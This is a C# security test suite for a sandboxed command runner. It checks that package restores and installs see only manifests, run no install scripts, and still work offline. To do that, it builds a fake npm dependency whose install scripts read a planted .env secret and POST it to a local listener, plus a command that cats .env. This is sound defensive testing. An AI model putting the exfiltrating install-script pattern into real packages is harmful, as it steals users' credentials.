using System.Diagnostics;
using System.Net;
using System.Net.Sockets;

namespace Honk.Tools.Tests.Commands;

/// <summary>Restores and installs with the network see only manifests, run no scripts, and still work offline.</summary>
[Trait("Category", "Security")]
public sealed class ManifestViewTests : IDisposable
{
    private const string Secret = "HONK_PLANTED_SECRET_6f1d";
    private readonly TempDirectory _workspace = new();
    private readonly TempDirectory _outside = new("honk-feed-", "/var/tmp");

    public void Dispose()
    {
        _workspace.Dispose();
        _outside.Dispose();
    }

    [Fact]
    public async Task RunAsync_ManifestView_ShowsOnlyManifestsAndWritesOutputs()
    {
        await SandboxTestSupport.RequireBubblewrapAsync();
        await WriteAsync(".env", $"TOKEN={Secret}\n");
        await WriteAsync("src/App/App.csproj", "<Project Sdk=\"Microsoft.NET.Sdk\" />");
        await WriteAsync("src/App/Program.cs", "class P { }");
        await WriteAsync("Directory.Build.props", "<Project />");
        await WriteAsync("NuGet.Config", "<configuration />");
        File.CreateSymbolicLink(_workspace.Combine("linked.csproj"), "/etc/hostname");
        var runner = new SandboxedCommandRunner(_workspace.Path, SandboxDefaults.Create());
        var request = CommandRequest.Shell("cat .env; find . -type f | sort; echo out > src/App/obj/written.txt; echo src > src/App/new.cs")
            with { ManifestView = ManifestView.DotnetRestore };

        var result = await runner.RunAsync(request, TestContext.Current.CancellationToken);

        Assert.DoesNotContain(Secret, result.Output, StringComparison.Ordinal);
        Assert.Contains("./src/App/App.csproj", result.Output, StringComparison.Ordinal);
        Assert.Contains("./Directory.Build.props", result.Output, StringComparison.Ordinal);
        Assert.Contains("./NuGet.Config", result.Output, StringComparison.Ordinal); // patterns match without regard to case
        Assert.DoesNotContain("Program.cs", result.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("linked.csproj", result.Output, StringComparison.Ordinal);
        Assert.Equal("out\n", await File.ReadAllTextAsync(_workspace.Combine("src/App/obj/written.txt"), TestContext.Current.CancellationToken));
        Assert.False(File.Exists(_workspace.Combine("src/App/new.cs")), "a restore view wrote outside its output folders");
    }

    [Fact]
    public async Task RunAsync_InstallScriptPostsEnvToLoopback_ReachesNothing()
    {
        await SandboxTestSupport.RequireBubblewrapAsync();
        await RequireHostProgramAsync("npm");
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var post = $"node -e \\\"const h=require('http');const r=h.request({{host:'127.0.0.1',port:{port},method:'POST'}});r.on('error',()=>{{}});r.end(require('fs').readFileSync('.env','utf8'));setTimeout(()=>process.exit(0),2000)\\\"";
        var ping = $"node -e \\\"require('net').connect({port},'127.0.0.1').on('error',()=>{{}}).end('scripts-ran');setTimeout(()=>process.exit(0),2000)\\\"";
        var dependency = await PackDependencyAsync(post.Replace(".env", _workspace.Combine(".env"), StringComparison.Ordinal));
        await WriteAsync(".env", $"TOKEN={Secret}\n");
        await WriteAsync("package.json", $$"""
            { "name": "victim", "version": "1.0.0", "private": true,
              "dependencies": { "dep": "file:{{dependency}}" },
              "scripts": { "preinstall": "{{ping}}", "postinstall": "{{post}}", "prepare": "{{ping}}" } }
            """);
        var options = SandboxDefaults.Create();
        options.ReadOnlyPaths.Add(_outside.Path);
        var runner = new SandboxedCommandRunner(_workspace.Path, options);

        // Deliberately without --ignore-scripts: the runner turns scripts off for every command with the network.
        var install = await runner.RunAsync(
            new CommandRequest("npm", ["install", "--no-audit", "--no-fund"]) { AllowNetwork = true, ManifestView = ManifestView.NodeInstall, Timeout = TimeSpan.FromMinutes(2) },
            TestContext.Current.CancellationToken);
        var control = await runner.RunAsync(
            CommandRequest.Shell(post.Replace("\\\"", "\"", StringComparison.Ordinal)) with { AllowNetwork = true, Timeout = TimeSpan.FromMinutes(1) },
            TestContext.Current.CancellationToken);

        Assert.True(install.ExitCode == 0, install.Output);
        Assert.True(File.Exists(_workspace.Combine("node_modules/dep/index.js")), install.Output);
        Assert.True(control.ExitCode == 0, control.Output);
        using var accepted = await listener.AcceptTcpClientAsync(TestContext.Current.CancellationToken);

        // No wait needed: every script connects as it starts and lives two seconds more, and both commands have ended,
        // so a connection from the install is already in the listener's queue.
        Assert.False(listener.Pending(), "a second connection arrived: an install script reached the loopback listener");
    }

    [Fact]
    public async Task RunAsync_NpmCiInManifestView_InstallsOfflineFromLocalTarball()
    {
        await SandboxTestSupport.RequireBubblewrapAsync();
        await RequireHostProgramAsync("npm");
        var dependency = await PackDependencyAsync("echo postinstall-ran > /tmp/ran");
        await WriteAsync("package.json", $$"""
            { "name": "small", "version": "1.0.0", "private": true, "dependencies": { "dep": "file:{{dependency}}" },
              "scripts": { "test": "node -e \"console.log(require('dep').answer)\"" } }
            """);
        await HostAsync(_workspace.Path, "npm", "install", "--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund", "--offline");
        var options = SandboxDefaults.Create();
        options.ReadOnlyPaths.Add(_outside.Path);
        var runner = new SandboxedCommandRunner(_workspace.Path, options);

        var install = await runner.RunAsync(
            new CommandRequest("npm", ["ci", "--no-audit", "--no-fund", "--ignore-scripts"]) { AllowNetwork = true, ManifestView = ManifestView.NodeInstall },
            TestContext.Current.CancellationToken);
        var test = await runner.RunAsync(new CommandRequest("npm", ["test", "--silent"]), TestContext.Current.CancellationToken);

        Assert.True(install.ExitCode == 0, install.Output);
        Assert.True(test.ExitCode == 0, test.Output);
        Assert.Equal("42", test.Output.Trim());
    }

    [Fact]
    public async Task RunAsync_DotnetRestoreInManifestView_RestoresOfflineFromReadOnlyHostCache()
    {
        await SandboxTestSupport.RequireBubblewrapAsync();
        var (id, version, folder) = FindCachedPackage();
        await WriteAsync(".env", $"TOKEN={Secret}\n");
        await WriteAsync("nuget.config", "<configuration><packageSources><clear /></packageSources></configuration>");
        await WriteAsync("Small/Small.csproj", $"""
            <Project Sdk="Microsoft.NET.Sdk">
              <PropertyGroup><TargetFramework>net10.0</TargetFramework><OutputType>Exe</OutputType></PropertyGroup>
              <ItemGroup><PackageReference Include="{id}" Version="{version}" /></ItemGroup>
            </Project>
            """);
        await WriteAsync("Small/Program.cs", "System.Console.WriteLine(\"built\");");
        var before = Directory.GetFileSystemEntries(folder, "*", SearchOption.AllDirectories).Length;
        var runner = new SandboxedCommandRunner(_workspace.Path, SandboxDefaults.Create());

        var restore = await runner.RunAsync(
            new CommandRequest("dotnet", ["restore", "Small/Small.csproj", "-nologo"]) { AllowNetwork = true, ManifestView = ManifestView.DotnetRestore, Timeout = TimeSpan.FromMinutes(5) },
            TestContext.Current.CancellationToken);
        var build = await runner.RunAsync(
            new CommandRequest("dotnet", ["build", "Small/Small.csproj", "--no-restore", "-nologo", "-v:q", "-p:UseSharedCompilation=false", "-nodeReuse:false"]) { Timeout = TimeSpan.FromMinutes(5) },
            TestContext.Current.CancellationToken);

        Assert.True(restore.ExitCode == 0, restore.Output);
        Assert.DoesNotContain(Secret, restore.Output, StringComparison.Ordinal);
        Assert.True(File.Exists(_workspace.Combine("Small/obj/project.assets.json")));
        Assert.True(build.ExitCode == 0, build.Output);
        Assert.Equal(before, Directory.GetFileSystemEntries(folder, "*", SearchOption.AllDirectories).Length);
    }

    private static (string Id, string Version, string Folder) FindCachedPackage()
    {
        // Packages without dependencies that Honk's own restore (or the machine's offline folder) leaves in a cache.
        foreach (var root in ToolchainFolders.Host.NuGetPackageFolders)
        {
            foreach (var id in new[] { "yamldotnet", "xunit.abstractions", "newtonsoft.json" })
            {
                var versions = Path.Combine(root, id);
                var version = Directory.Exists(versions)
                    ? Directory.EnumerateDirectories(versions).Where(v => Directory.EnumerateFiles(v, "*.nupkg.sha512").Any()).Order(StringComparer.Ordinal).LastOrDefault()
                    : null;
                if (version is not null)
                {
                    return (id, Path.GetFileName(version), root);
                }
            }
        }

        Assert.Skip("no dependency-free NuGet package (YamlDotNet, xunit.abstractions, Newtonsoft.Json) is in this host's NuGet caches");
        return default;
    }

    /// <summary>Packs a dependency with a postinstall script into a tarball outside the workspace.</summary>
    private async Task<string> PackDependencyAsync(string postinstall)
    {
        var source = Directory.CreateDirectory(Path.Combine(_outside.Path, "dep")).FullName;
        await File.WriteAllTextAsync(Path.Combine(source, "index.js"), "module.exports = { answer: 42 };\n", TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(Path.Combine(source, "package.json"), $$"""
            { "name": "dep", "version": "1.0.0", "main": "index.js", "scripts": { "postinstall": "{{postinstall}}" } }
            """, TestContext.Current.CancellationToken);
        await HostAsync(source, "npm", "pack", "--ignore-scripts", "--pack-destination", _outside.Path);
        return Path.Combine(_outside.Path, "dep-1.0.0.tgz");
    }

    private Task WriteAsync(string relative, string content)
    {
        var path = _workspace.Combine(relative);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        return File.WriteAllTextAsync(path, content, TestContext.Current.CancellationToken);
    }

    private static async Task RequireHostProgramAsync(string program)
    {
        if (BubblewrapDetector.FindOnPath(program) is null)
        {
            Assert.Skip($"{program} is not installed on this host");
        }

        await Task.CompletedTask;
    }

    private static async Task HostAsync(string workingDirectory, string program, params string[] arguments)
    {
        var start = new ProcessStartInfo(program) { WorkingDirectory = workingDirectory, RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        using var process = Process.Start(start)!;
        var output = process.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        var error = process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        await process.WaitForExitAsync(TestContext.Current.CancellationToken);
        Assert.True(process.ExitCode == 0, $"{program} {string.Join(' ', arguments)} failed: {await output}{await error}");
    }
}
